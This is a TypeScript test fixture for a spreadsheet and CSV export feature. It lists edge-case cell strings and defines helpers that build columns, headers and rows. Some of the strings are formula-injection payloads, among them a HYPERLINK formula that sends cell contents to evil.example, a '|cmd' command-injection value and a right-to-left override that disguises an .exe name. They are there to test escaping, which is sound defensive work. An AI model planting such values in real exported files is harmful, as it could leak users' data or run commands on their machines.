import type { Cell, CellKind } from '@shared/columns/column';
import type { ExportColumn, ExportHead, ExportRow } from '@shared/export/format/format';

/** Strings from real registers that break files. */
export const edgeCaseTexts: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1;"klicka")',
  '=1+1',
  '@home',
  '+46',
  '-1',
  '- bindestreck först',
  ' =2+2',
  '\u00a0=2+2',
  '\t=3+3',
  '＝4+4',
  "'apostrof",
  'semi;kolon',
  'kom,ma',
  'citat "tecken"',
  '"',
  '""',
  'rad\nbrytning',
  'tab\tinuti',
  '  blanksteg  runt  ',
  '0012345',
  '00',
  '1E5',
  '3-4',
  '2008-06',
  '1/2',
  '12345678901234567890',
  '5,50',
  '5.50',
  'TRUE',
  'ÅÄÖ åäö É',
  'A\u030A a\u0308 o\u0308',
  'Ελληνικά Кириллица Łódź İstanbul',
  '😀👩‍👩‍👧 emoji',
  'שלום العربية',
  '日本語 中文',
  'vänd \u202egnp.exe',
  'rad\u2028skiljare',
  'noll\u200bbredd',
  '\u2212 5',
  '<b>&amp;</b> ]]> &#10;',
  '_x0041_ _x000D_ _x00',
  'ID',
  'x'.repeat(5000),
  '#REF!',
  'NULL',
  '|cmd',
];

/** A column with default width and label. */
export function column(kind: CellKind, label: string = kind): ExportColumn {
  return { id: label, kind, label, width: 120 };
}

/** A header with these columns. */
export function head(columns: readonly ExportColumn[], more: Partial<ExportHead> = {}): ExportHead {
  return {
    columns,
    title: 'Varumärken',
    locale: 'sv',
    words: { yes: 'Ja', no: 'Nej', sample: 'Exempeldata' },
    sample: false,
    ...more,
  };
}

/** A row of cells without its raw JSON. */
export function row(...cells: readonly Cell[]): ExportRow {
  return { cells, raw: '{}' };
}
